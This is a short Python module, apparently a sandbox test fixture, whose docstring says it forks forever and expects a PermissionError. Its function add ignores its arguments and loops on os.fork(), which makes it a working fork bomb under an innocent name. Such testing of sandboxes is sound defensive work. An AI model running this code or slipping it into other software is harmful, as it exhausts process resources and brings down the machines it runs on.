"""Forks for ever, and so does every child.

Touches: add
Says: raised PermissionError
"""

import os


def add(a, b):
    while True:
        os.fork()
